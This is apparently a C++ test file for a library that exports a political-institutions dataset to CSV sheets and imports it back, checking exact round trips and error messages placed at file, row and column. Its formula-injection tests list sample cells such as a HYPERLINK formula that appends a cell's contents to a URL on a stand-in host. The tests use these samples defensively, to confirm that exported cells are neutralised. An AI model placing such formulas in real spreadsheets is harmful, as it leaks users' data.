// CSV sheets <-> dataset: export then import gives the same JSON value back (the article's
// dataset, generated ones, the shipped sheets), and every problem is reported at the file,
// spreadsheet row and column an editor has to fix.
#include "polity/csv.hpp"
#include "polity/load.hpp"
#include "polity/sheets.hpp"

#include "dataset_generator.hpp"

#include <doctest/doctest.h>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

using namespace polity;
using namespace polity::sheets;

namespace {

std::string ReadSource(const std::string& path) {
    std::ifstream in(std::string(POLITY_SOURCE_DIR) + "/" + path, std::ios::binary);
    std::ostringstream text;
    text << in.rdbuf();
    return text.str();
}

const std::string kArticle = "data/kazakhstan-constitution.json";

// The checks every round trip must pass: nothing lost, nothing reported, the same value.
void CheckRoundTrip(const std::string& json) {
    const ExportResult exported = ExportSheets(json);
    for (const ExportNote& lost : exported.lost) FAIL_CHECK(lost.pointer << ": " << lost.message);
    const ImportResult back = ImportSheets(exported.files);
    for (const SheetDiagnostic& d : back.diagnostics) FAIL_CHECK(FormatSheetDiagnostic(d));
    CHECK(back.checked);
    CHECK(FirstDifference(json, back.json) == "");
}

// A small dataset written the way an editor would, sheet by sheet.
std::vector<CsvFile> Minimal() {
    return {
        {"meta.csv", "field,value\ntitle,A minimal dataset\nlanguages,en;ru\ndate,2025-08-25\nsources,src\n"},
        {"sources.csv", "id,title,publisher,date\nsrc,An article,A newspaper,2025-08-25\n"},
        {"institutions.csv", "id,name,name.ru,description,sources\n"
                             "court,Constitutional Court,Конституционный Суд,Reviews laws.,src\n"
                             "senate,Senate,Сенат,The upper house.,src\n"},
        {"people.csv", "id,name,sources\njudge,A. Judge,src\n"},
        {"roles.csv", "person,title,institution\njudge,Chair,court\n"},
        {"metrics.csv", "id,name,unit,subject,sources\nappeals,Appeals,appeals a year,court,src\n"},
        {"observations.csv", "metric,value,qualifier,label,sources\nappeals,1800,,a few years earlier,src\n"
                             "appeals,7000,nearly,now,src\n"},
    };
}

std::vector<CsvFile> With(std::vector<CsvFile> files, const std::string& name, const std::string& text) {
    const auto it = std::find_if(files.begin(), files.end(), [&](const CsvFile& f) { return f.name == name; });
    if (it != files.end()) it->text = text;
    else files.push_back(CsvFile{name, text});
    return files;
}

std::string AllDiagnostics(const ImportResult& r) {
    std::string out;
    for (const SheetDiagnostic& d : r.diagnostics) out += FormatSheetDiagnostic(d) + "\n";
    return out;
}

// The one diagnostic of `r` in `file` whose message holds `part`; fails the test otherwise.
SheetDiagnostic Only(const ImportResult& r, const std::string& file, const std::string& part) {
    std::vector<SheetDiagnostic> found;
    for (const SheetDiagnostic& d : r.diagnostics)
        if (d.file == file && d.message.find(part) != std::string::npos) found.push_back(d);
    REQUIRE_MESSAGE(found.size() == 1, "expected one '" << part << "' in " << file << ", got " << found.size() << ":\n"
                                                        << AllDiagnostics(r));
    return found[0];
}

} // namespace

//-----------------------------------------------------------------------------
// Round trips
//-----------------------------------------------------------------------------

TEST_CASE("sheets: the article's dataset survives export then import exactly") {
    const std::string json = ReadSource(kArticle);
    REQUIRE(LoadDataset(json, kArticle).ok());
    CheckRoundTrip(json);
}

TEST_CASE("sheets: generated datasets survive export then import") {
    for (std::size_t size : {1, 10, 100, 1000, 5000})
        for (std::uint64_t seed : {1, 2}) {
            CAPTURE(size);
            CAPTURE(seed);
            gen::GeneratorOptions options;
            options.entities = size;
            options.seed = seed;
            CheckRoundTrip(gen::GenerateDataset(options));
        }
}

TEST_CASE("sheets: texts keep their form: plain strings, translations, one-language objects") {
    const std::string json = R"({"format": "polity/1",
        "meta": {"title": {"en": "Only English, as an object"}, "languages": ["en", "ru", "uz"], "date": "2025",
                 "sources": ["s"], "dek": {"ru": "Только по-русски"}},
        "sources": [{"id": "s", "title": "Plain", "publisher": "P", "date": "2025",
                     "excerpt": {"en": "Line one,\n\"line\" two", "ru": "Строка", "uz": "Satr"}}],
        "metrics": [{"id": "m", "name": "M", "unit": "%", "sources": ["s"],
                     "observations": [{"value": 0.5, "label": "then", "sources": ["s"]}, {"value": 12.0, "date": "2024", "sources": ["s"]}]}]})";
    REQUIRE(LoadDataset(json, "texts.json").ok());
    CheckRoundTrip(json);
}

TEST_CASE("sheets: the licence, a publisher and a place may be plain or per language") {
    const std::string json = R"({"format": "polity/1",
        "meta": {"title": "T", "languages": ["en", "ru", "kk"], "date": "2025", "sources": ["s", "t"],
                 "licence": {"en": "CC BY 4.0", "ru": "CC BY 4.0, с указанием автора", "kk": "CC BY 4.0, авторын көрсетіп"}},
        "sources": [{"id": "s", "title": "One", "publisher": {"en": "The Courier", "ru": "Курьер"}, "place": {"en": "Astana", "kk": "Астана"}, "date": "2025"},
                    {"id": "t", "title": "Two", "publisher": "Plain Press", "place": "Almaty", "date": "2025"}]})";
    REQUIRE(LoadDataset(json, "plain-or-translated.json").ok());
    CheckRoundTrip(json);
}

TEST_CASE("sheets: the shipped example sheets are the export of the article's dataset") {
    const std::string dir = "data/templates/kazakhstan-constitution/";
    const ExportResult exported = ExportSheets(ReadSource(kArticle));
    std::vector<CsvFile> shipped;
    for (const CsvFile& f : exported.files) {
        shipped.push_back(CsvFile{f.name, ReadSource(dir + f.name)});
        const bool same = shipped.back().text == f.text;  // not CHECK(a == b): it would print both files
        CHECK_MESSAGE(same, f.name << " is out of date: run polity export " << kArticle << " -o " << dir);
    }
    const ImportResult back = ImportSheets(shipped);
    CHECK(back.diagnostics.empty());
    CHECK(FirstDifference(ReadSource(kArticle), back.json) == "");
}

TEST_CASE("sheets: the blank templates name the columns of the format, in its order") {
    int templates = 0;
    std::error_code ec;
    const std::filesystem::path dir = std::string(POLITY_SOURCE_DIR) + "/data/templates";
    for (std::filesystem::directory_iterator entry(dir, ec), end; !ec && entry != end; entry.increment(ec)) {
        if (entry->path().extension() != ".csv") continue;
        ++templates;
        const std::string name = entry->path().filename().string();
        const SheetSpec* sheet = SheetForFile(name);
        REQUIRE_MESSAGE(sheet, name);
        const csv::Table table = csv::Read(ReadSource("data/templates/" + name));
        REQUIRE(table.ok());
        std::vector<std::string> names, expected;
        for (std::size_t i = 0; i < sheet->column_count; ++i) expected.push_back(sheet->columns[i].name);
        if (sheet->vertical) {  // one row per field; "$schema" and "format" are for the export
            expected.erase(expected.begin(), expected.begin() + 2);
            for (const csv::Record& r : table.records)
                if (r.fields[0] != "field" && r.fields[0].substr(0, 1) != "#") names.push_back(r.fields[0]);
        } else {
            names = table.records[0].fields;
        }
        CHECK_MESSAGE(names == expected, sheet->name);
    }
    CHECK(templates == static_cast<int>(std::size(kSheets)));
}

// The dataset's fields are written down twice, in the sheets' columns and in the JSON schema
// (the validator is held to the schema by schema.agrees-with-validator): each sheet's columns,
// with the sheets nested in it, are exactly the properties of the object its rows become.
TEST_CASE("sheets: every sheet's columns are the schema's fields of its object, no more, no fewer") {
    const nlohmann::json schema = nlohmann::json::parse(ReadSource("data/schema/polity-dataset.schema.json"));
    const nlohmann::json& defs = schema["$defs"];
    const auto object_of = [&](const nlohmann::json& property) -> const nlohmann::json& {
        const nlohmann::json& ref = property.contains("items") ? property["items"]["$ref"] : property["$ref"];
        return defs[ref.get<std::string>().substr(std::string("#/$defs/").size())];
    };
    const auto sheet_named = [](const char* name) {
        return *std::find_if(std::begin(kSheets), std::end(kSheets), [&](const SheetSpec& s) { return std::string(s.name) == name; });
    };
    for (const SheetSpec& sheet : kSheets) {
        CAPTURE(std::string(sheet.name));
        const nlohmann::json& holder = sheet.parent ? object_of(schema["properties"][sheet_named(sheet.parent).json_key]) : schema;
        REQUIRE(holder["properties"].contains(sheet.json_key));
        const nlohmann::json& object = object_of(holder["properties"][sheet.json_key]);
        std::vector<std::string> columns, fields;
        for (std::size_t i = 0; i < sheet.column_count; ++i) {
            const ColumnSpec& column = sheet.columns[i];
            const bool top_level = sheet.vertical && i < 2;   // meta.csv's "$schema" and "format"
            if (column.kind == CellKind::Parent) continue;   // the row's place, not a field
            if (top_level) CHECK(schema["properties"].contains(column.name));
            else columns.push_back(column.name);
        }
        for (const SheetSpec& nested : kSheets)   // a sheet nested in this one fills a field of it
            if (nested.parent && std::string(nested.parent) == sheet.name) columns.push_back(nested.json_key);
        for (const auto& [field, unused] : object["properties"].items()) fields.push_back(field);
        std::sort(columns.begin(), columns.end());
        std::sort(fields.begin(), fields.end());
        CHECK(columns == fields);
    }
}

TEST_CASE("sheets: the templates' example rows, made real, are a valid dataset") {
    std::vector<CsvFile> files;
    for (const SheetSpec& sheet : kSheets) {
        std::string text = ReadSource("data/templates/" + std::string(sheet.name) + ".csv");
        for (std::size_t at = text.find("\n# "); !sheet.vertical && at != std::string::npos; at = text.find("\n# ", at))
            text.erase(at + 1, 2);  // what an editor does: delete the "# "
        files.push_back(CsvFile{std::string(sheet.name) + ".csv", text});
    }
    files = With(files, "meta.csv", "field,value\ntitle,Example\nlanguages,en\ndate,2025-08-25\nsources,article-2025-08-25\n");
    const ImportResult r = ImportSheets(files);
    CHECK_MESSAGE(r.diagnostics.empty(), AllDiagnostics(r));
    const LoadResult loaded = LoadDataset(r.json, "example.json");
    REQUIRE(loaded.ok());
    for (const SheetSpec& sheet : kSheets)  // every example row made it in
        if (!sheet.vertical && !sheet.parent)
            CHECK_MESSAGE(r.json.find("\"" + std::string(sheet.json_key) + "\": [\n") != std::string::npos, sheet.name);
}

TEST_CASE("sheets: a spreadsheet's CSV imports: notes, blank rows, ';' cells, download names") {
    std::vector<CsvFile> files = Minimal();
    files = With(files, "institutions.csv",
                 "\xEF\xBB\xBFid;name;name.ru;description;sources\r\n# a note row;;;;\r\n;;;;\r\n"
                 "court;Constitutional Court;Конституционный Суд;\"Reviews; laws.\";src\r\n");
    files[0].name = "My dataset - meta (1).csv";
    const ImportResult r = ImportSheets(files);
    INFO(AllDiagnostics(r));
    REQUIRE(r.ok());
    const nlohmann::json j = nlohmann::json::parse(r.json, nullptr, false);
    REQUIRE(j.is_object());
    CHECK(j["institutions"].size() == 1);
    CHECK(j["institutions"][0]["name"] == nlohmann::json({{"en", "Constitutional Court"}, {"ru", "Конституционный Суд"}}));
    CHECK(j["institutions"][0]["description"] == "Reviews; laws.");
    CHECK(j["metrics"][0]["observations"][1]["value"] == 7000);
    CHECK(j["metrics"][0]["observations"][1]["value"].is_number_integer());
    CHECK(j["people"][0]["roles"][0]["institution"] == "court");
    CHECK(j["meta"]["languages"] == nlohmann::json({"en", "ru"}));
    CHECK(SheetForFile("Polity - observations.csv") == FindSheet("observations"));
    CHECK(SheetForFile("dataset_people.CSV") == FindSheet("people"));
    CHECK(SheetForFile("mypeople.csv") == nullptr);
    CHECK(SheetForFile("people.xlsx") == nullptr);
}

TEST_CASE("sheets: FirstDifference ignores key order and names the first difference") {
    CHECK(FirstDifference(R"({"a": 1, "b": [1, 2]})", R"({"b": [1, 2], "a": 1})") == "");
    CHECK(FirstDifference(R"({"a": 1, "b": [1, 2]})", R"({"a": 1, "b": [1, 3]})") == "/b/1");
    CHECK(FirstDifference(R"({"a": {"x": "y"}})", R"({"a": "y"})") == "/a");
    CHECK(FirstDifference(R"({"a": 1})", R"({"a": 1, "c/d": 2})") == "/c~1d");
    CHECK(FirstDifference("{", "{}") == "(not JSON)");
}

TEST_CASE("sheets: export lists what the sheets cannot hold") {
    const ExportResult r = ExportSheets(R"({"format": "polity/1", "extra": 1,
        "meta": {"title": "T", "languages": ["en"], "date": "2025", "sources": ["s"]},
        "sources": [{"id": "s", "title": "T", "publisher": "P", "date": "2025", "themes": [], "descripton": "typo"}]})");
    std::vector<std::string> pointers;
    for (const ExportNote& n : r.lost) pointers.push_back(n.pointer);
    CHECK(pointers == std::vector<std::string>{"/extra", "/sources/0/themes", "/sources/0/descripton"});
}

//-----------------------------------------------------------------------------
// Problems, placed at file, row and column
//-----------------------------------------------------------------------------

TEST_CASE("sheets: a bad id is reported at its file, row and column, with the likely fix") {
    const ImportResult r = ImportSheets(With(Minimal(), "roles.csv", "person,title,institution\njudge,Chair,court\njudge,Member,cuort\n"));
    CHECK_FALSE(r.ok());
    const SheetDiagnostic d = Only(r, "roles.csv", "unknown id 'cuort'");
    CHECK(d.row == 3);
    CHECK(d.column == "institution");
    CHECK(FormatSheetDiagnostic(d) ==
          "roles.csv:3: error: column \"institution\": unknown id 'cuort' (expected an institution) \xE2\x80\x94 did you mean 'court'?");
    CHECK(r.diagnostics.size() == 1);
}

TEST_CASE("sheets: rows are counted as the spreadsheet shows them") {
    // Row 1 the header, row 2 a note, row 3 blank, row 4 a cell with a line break, row 5 the bad one.
    const ImportResult r = ImportSheets(With(Minimal(), "people.csv",
        "id,name,sources\n# people we quote,,\n,,\njudge,\"A.\nJudge\",src\nclerk,A. Clerk,scr\n"));
    const SheetDiagnostic d = Only(r, "people.csv", "unknown id 'scr'");
    CHECK(d.row == 5);
    CHECK(d.column == "sources");
}

TEST_CASE("sheets: an unknown column stops the import before the dataset is checked") {
    const ImportResult r = ImportSheets(With(Minimal(), "people.csv", "id,name,descripton,sources\njudge,A. Judge,x,src\n"));
    const SheetDiagnostic d = Only(r, "people.csv", "not a column");
    CHECK(d.row == 1);
    CHECK(d.column == "descripton");
    CHECK(d.hint.find("\"description\"") != std::string::npos);
    CHECK_FALSE(r.checked);
}

TEST_CASE("sheets: CSV problems: unterminated quote, extra cells, unknown sheet, two files for one") {
    auto files = With(Minimal(), "sources.csv", "id,title,publisher,date\nsrc,\"An article,A newspaper,2025-08-25\n");
    files = With(files, "people.csv", "id,name,sources\njudge,A. Judge,src,extra\n");
    files = With(files, "theme.csv", "id,name\n");
    files = With(files, "Copy - roles.csv", "person,title\n");
    const ImportResult r = ImportSheets(files);
    CHECK(Only(r, "sources.csv", "never closed").row == 2);
    const SheetDiagnostic extra = Only(r, "people.csv", "column D");
    CHECK(extra.row == 2);
    CHECK(Only(r, "theme.csv", "not a sheet").hint.find("themes.csv?") != std::string::npos);
    CHECK(Only(r, "Copy - roles.csv", "a second file").row == 0);
    CHECK_FALSE(r.checked);
}

TEST_CASE("sheets: a file that is not UTF-8 says how to save it") {
    const ImportResult r = ImportSheets(With(Minimal(), "people.csv", "id,name,sources\njudge,Jos\xE9,src\n"));
    const SheetDiagnostic d = Only(r, "people.csv", "not UTF-8");
    CHECK(d.row == 2);
    CHECK(d.message.find("CSV UTF-8") != std::string::npos);
}

TEST_CASE("sheets: meta.csv problems name the field and its row") {
    const ImportResult r = ImportSheets(With(Minimal(), "meta.csv",
        "field,value\ntitle,T\nlanguages,en;kz\ndate,25.08.2025\nsources,src\n"));
    const SheetDiagnostic date = Only(r, "meta.csv", "bad date");
    CHECK(date.row == 4);
    CHECK(FormatSheetDiagnostic(date).rfind("meta.csv:4: error: field \"date\": bad date '25.08.2025'", 0) == 0);
    CHECK(date.hint.find("plain text") != std::string::npos);
    CHECK(Only(r, "meta.csv", "unknown language code").row == 3);
    const ImportResult unknown = ImportSheets(With(Minimal(), "meta.csv", "field,value\ntitle,T\ncolour,red\n"));
    CHECK(Only(unknown, "meta.csv", "not a field").row == 3);
    const ImportResult missing = ImportSheets(With(Minimal(), "meta.csv", "field,value\ntitle,T\nlanguages,en\nsources,src\n"));
    CHECK(Only(missing, "meta.csv", "no row for it").column == "date");
    const ImportResult empty = ImportSheets(With(Minimal(), "meta.csv", "field,value\ntitle,T\nlanguages,en\ndate,\nsources,src\n"));
    CHECK(FormatSheetDiagnostic(Only(empty, "meta.csv", "empty")) == "meta.csv:4: error: field \"date\": required, but empty");
}

TEST_CASE("sheets: empty required cells, missing columns, duplicate ids, missing nested rows") {
    auto files = With(Minimal(), "institutions.csv", "id,name,description,sources\ncourt,Court,,src\ncourt,Court again,Twice.,src\n");
    files = With(files, "people.csv", "id,name\njudge,A. Judge\n");
    files = With(files, "observations.csv", "metric,value,label,sources\n");
    const ImportResult r = ImportSheets(files);
    const SheetDiagnostic empty = Only(r, "institutions.csv", "required, but empty");
    CHECK(empty.row == 2);
    CHECK(empty.column == "description");
    CHECK(Only(r, "institutions.csv", "duplicate id").message == "duplicate id 'court': already used in institutions.csv row 2");
    const SheetDiagnostic no_column = Only(r, "people.csv", "no such column");
    CHECK(no_column.row == 1);
    CHECK(no_column.column == "sources");
    CHECK(Only(r, "metrics.csv", "has no rows in observations.csv").row == 2);
}

TEST_CASE("sheets: nested rows must name a parent that exists") {
    const ImportResult r = ImportSheets(With(Minimal(), "observations.csv",
        "metric,value,label,sources\nappeals,1800,then,src\napeals,7000,now,src\n,5,x,src\n"));
    const SheetDiagnostic typo = Only(r, "observations.csv", "no row of metrics.csv");
    CHECK(typo.row == 3);
    CHECK(typo.column == "metric");
    CHECK(typo.hint == "Did you mean 'appeals'?");
    CHECK(Only(r, "observations.csv", "required, but empty").row == 4);
}

TEST_CASE("sheets: words where a number belongs, and a text given twice") {
    auto files = With(Minimal(), "observations.csv", "metric,value,label,sources\nappeals,\"7,000\",now,src\n");
    files = With(files, "people.csv", "id,name,name.en,sources\njudge,A. Judge,Judge A.,src\n");
    const ImportResult r = ImportSheets(files);
    const SheetDiagnostic number = Only(r, "observations.csv", "number");
    CHECK(number.row == 2);
    CHECK(number.column == "value");
    CHECK(Only(r, "people.csv", "given twice").column == "name.en");
}

TEST_CASE("sheets: without meta.csv the import says so") {
    std::vector<CsvFile> files = Minimal();
    files.erase(files.begin());
    const ImportResult r = ImportSheets(files);
    CHECK(Only(r, "meta.csv", "there is no meta.csv").row == 0);
    CHECK(ImportSheets({}).diagnostics.size() == 1);
}

//-----------------------------------------------------------------------------
// Formulas: no exported cell runs in a spreadsheet, and import gives the text back
//-----------------------------------------------------------------------------

namespace {

// Texts a dataset from anywhere may hold: formulas, and values that only look like them.
const char* const kFormulaLike[] = {
    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "+7 701 123 4567",
    "-5",
    "+0.5",
    "-1e3",
    "-",
    "=",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-2+3",
    "'=already quoted",
    "''=twice",
    "'-5",
    "'",
    "'plain",
    "- a list item",
};

std::string FormulaDataset() {
    nlohmann::ordered_json institutions = nlohmann::ordered_json::array();
    int n = 0;
    for (const char* text : kFormulaLike)
        institutions.push_back(
            {{"id", "i" + std::to_string(n++)}, {"name", "Name " + std::to_string(n)}, {"description", text},
                {"category", std::string(text).find_first_of("\t\r") == std::string::npos ? text : "x"},
                {"sources", {"s"}}});
    const nlohmann::ordered_json observations = nlohmann::ordered_json::parse(
        R"([{"value": -5, "date": "2024", "sources": ["s"]}, {"value": -0.25, "date": "2025", "sources": ["s"]}])");
    nlohmann::ordered_json dataset = nlohmann::ordered_json::parse(R"json({"format": "polity/1",
        "meta": {"title": "=HYPERLINK(\"http://example.org\")", "languages": ["en"], "date": "2025", "sources": ["s"]},
        "sources": [{"id": "s", "title": "@cmd", "publisher": "+Press", "date": "2025"}],
        "metrics": [{"id": "m", "name": "-M", "unit": "%", "sources": ["s"]}]})json");
    dataset["institutions"] = institutions;
    dataset["metrics"][0]["observations"] = observations;
    return dataset.dump(2);
}

} // namespace

TEST_CASE("sheets: export writes no cell a spreadsheet would run as a formula") {
    const std::string json = FormulaDataset();
    REQUIRE(LoadDataset(json, "formulas.json").ok());
    const ExportResult exported = ExportSheets(json);
    int guarded = 0;
    for (const CsvFile& file : exported.files) {
        const csv::Table table = csv::Read(file.text);
        REQUIRE(table.ok());
        for (const csv::Record& record : table.records)
            for (const std::string& cell : record.fields) {
                CAPTURE(file.name);
                CAPTURE(cell);
                const bool plain_number = cell == "-5" || cell == "+0.5" || cell == "-1e3" || cell == "-0.25";
                if (!cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string_view::npos)
                    CHECK(plain_number);
                guarded += cell.size() > 1 && cell[0] == '\'' &&
                    std::string_view("=+-@\t\r").find(cell[1]) != std::string_view::npos;
            }
    }
    CHECK(guarded > 10);
}

TEST_CASE("sheets: import takes the guard off again, so formulas, phones and numbers round-trip exactly") {
    CheckRoundTrip(FormulaDataset());
    // As a spreadsheet saves it when the editor typed the text: no guard at all.
    const ImportResult typed =
        ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,=1+1,src\n"));
    REQUIRE(typed.ok());
    CHECK(nlohmann::json::parse(typed.json)["people"][0]["description"] == "=1+1");
    // As export writes it, or a spreadsheet saves a cell typed with the apostrophe.
    const ImportResult guarded =
        ImportSheets(With(Minimal(), "people.csv", "id,name,description,sources\njudge,A. Judge,'=1+1,src\n"));
    REQUIRE(guarded.ok());
    CHECK(nlohmann::json::parse(guarded.json)["people"][0]["description"] == "=1+1");
}

TEST_CASE("sheets: at most 100 problems per file are listed, then how many more") {
    std::string people = "id,name,sources\n";
    for (int i = 0; i < 150; ++i) people += "p" + std::to_string(i) + ",Person,nosuch\n";
    auto files = With(Minimal(), "people.csv", people);
    files = With(files, "roles.csv", "person,title,institution\np0,Chair,cuort\n");
    const ImportResult r = ImportSheets(files);
    CHECK(r.ErrorCount() == 151);
    std::size_t listed = 0;
    for (const SheetDiagnostic& d : r.diagnostics) listed += d.file == "people.csv";
    CHECK(listed == 101);
    CHECK(FormatSheetDiagnostic(r.diagnostics[100]) == "people.csv: error: \u2026and 50 more (not listed)");
    CHECK(Only(r, "roles.csv", "unknown id 'cuort'").row == 2);
}

TEST_CASE("sheets: a byte order mark or a bidirectional mark in a header is shown escaped") {
    const ImportResult r =
        ImportSheets(With(Minimal(), "people.csv", "id,\xEF\xBB\xBFname,\xE2\x80\xAEsources\njudge,A. Judge,src\n"));
    const std::string all = AllDiagnostics(r);
    CHECK(all.find("column \"\\u{FEFF}name\": not a column") != std::string::npos);
    CHECK(all.find("column \"\\u{202E}sources\": not a column") != std::string::npos);
    CHECK(all.find("\xEF\xBB\xBF") == std::string::npos);
    CHECK(all.find("\xE2\x80\xAE") == std::string::npos);
}
